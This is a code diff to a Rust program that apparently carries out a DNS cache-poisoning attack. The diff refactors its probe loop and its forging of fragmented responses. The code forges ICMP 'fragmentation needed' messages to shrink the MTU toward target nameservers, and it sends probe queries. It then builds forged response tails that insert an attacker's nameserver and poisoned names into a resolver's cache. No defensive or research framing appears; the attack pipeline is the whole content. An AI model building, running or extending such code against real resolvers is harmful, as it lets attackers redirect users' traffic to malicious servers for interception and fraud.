@@ -125,7 +125,6 @@ pub struct PoisonStats {
 #[derive(Debug, Default)]
 struct TargetState {
     predictor: IpidPredictor,
-    observed: Option<Vec<u8>>,
     tail: Option<ForgedTail>,
 }
 
@@ -227,7 +226,7 @@ impl PoisonPipeline {
         self.last_icmp = Some(ctx.now());
         let resolver = self.config.resolver;
         let mtu = self.config.forced_mtu;
-        for &ns in self.config.ns_targets.iter().collect::<Vec<_>>() {
+        for &ns in &self.config.ns_targets {
             self.stats.icmps_sent += 1;
             ctx.send_icmp(ns, forge_frag_needed(ns, resolver, mtu));
         }
@@ -235,10 +234,9 @@ impl PoisonPipeline {
 
     fn send_probes(&mut self, ctx: &mut Ctx<'_>) {
         self.last_probe = Some(ctx.now());
-        let domain = self.config.pool_domain.clone();
-        for &ns in self.config.ns_targets.iter().collect::<Vec<_>>() {
+        for &ns in &self.config.ns_targets {
             let txid: u16 = ctx.rng().random();
-            let query = Message::query(txid, domain.clone(), RecordType::A, false);
+            let query = Message::query(txid, self.config.pool_domain.clone(), RecordType::A, false);
             if let Ok(wire) = query.encode() {
                 self.stats.probes_sent += 1;
                 self.probe_pending.insert(txid, ns);
@@ -322,17 +320,15 @@ impl PoisonPipeline {
                     return true;
                 }
                 if let Some(state) = self.targets.get_mut(&d.src) {
-                    let bytes = d.payload.to_vec();
-                    if state.observed.as_deref() != Some(bytes.as_slice()) {
-                        state.tail =
-                            forge_tail(&bytes, self.config.forced_mtu, self.config.attacker_ns)
-                                .ok();
-                        if let Some(tail) = &state.tail {
-                            if self.check_name.is_none() {
-                                self.check_name = tail.poisoned_names.first().cloned();
-                            }
+                    // Re-forged per probe: every response carries a fresh
+                    // ID and answer sample, so there is nothing to memoise.
+                    state.tail =
+                        forge_tail(&d.payload, self.config.forced_mtu, self.config.attacker_ns)
+                            .ok();
+                    if let Some(tail) = &state.tail {
+                        if self.check_name.is_none() {
+                            self.check_name = tail.poisoned_names.first().cloned();
                         }
-                        state.observed = Some(bytes);
                     }
                 }
                 true
